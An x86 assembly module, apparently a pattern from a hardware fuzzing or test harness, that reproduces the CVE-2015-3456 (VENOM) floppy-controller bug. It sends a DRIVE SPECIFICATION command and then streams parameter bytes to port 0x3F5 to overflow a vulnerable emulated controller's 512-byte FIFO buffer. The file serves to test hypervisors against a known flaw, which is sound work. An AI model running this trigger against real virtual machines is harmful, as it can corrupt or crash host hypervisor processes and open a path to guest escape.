; venom: the CVE-2015-3456 (VENOM) pattern against the floppy controller.
; Each run starts a DRIVE SPECIFICATION command (0x8E) and then keeps
; writing parameter bytes without bit 7 to the FIFO at 0x3F5, which a
; vulnerable FDC model stores past its 512-byte buffer; one op in eight
; reads the main status register at 0x3F4 instead, and every 2048 bytes the
; run restarts with a controller reset through the DOR.
%include "common.inc"
init:
	call reset
	ret
unit:
	call rand
	test al, 7
	jnz .write
	mov dx, 0x3F4
	in al, dx
	ret
.write:
	and al, 0x7F
	mov dx, 0x3F5
	out dx, al
	inc word [di+R_S0]
	cmp word [di+R_S0], 2048
	jb .r
	call reset
.r:
	ret
reset:
	mov dx, 0x3F2
	xor al, al
	out dx, al              ; DOR: reset
	mov al, 0x0C
	out dx, al
	mov dx, 0x3F5
	mov al, 0x8E            ; DRIVE SPECIFICATION
	out dx, al
	mov word [di+R_S0], 0
	ret
